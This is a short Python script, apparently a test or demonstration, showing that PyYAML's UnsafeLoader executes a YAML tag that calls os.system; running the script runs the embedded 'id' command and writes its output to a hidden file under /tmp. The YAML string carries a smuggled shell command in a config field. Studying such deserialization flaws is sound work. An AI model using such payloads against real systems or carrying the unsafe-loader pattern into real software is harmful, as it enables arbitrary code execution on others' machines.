# expect: stdlib; PyYAML load with the unsafe Loader runs !!python/object/apply:os.system
import yaml

doc = """
name: build
steps: !!python/object/apply:os.system ["id > /tmp/.y"]
"""
conf = yaml.load(doc, Loader=yaml.UnsafeLoader)
print(conf)
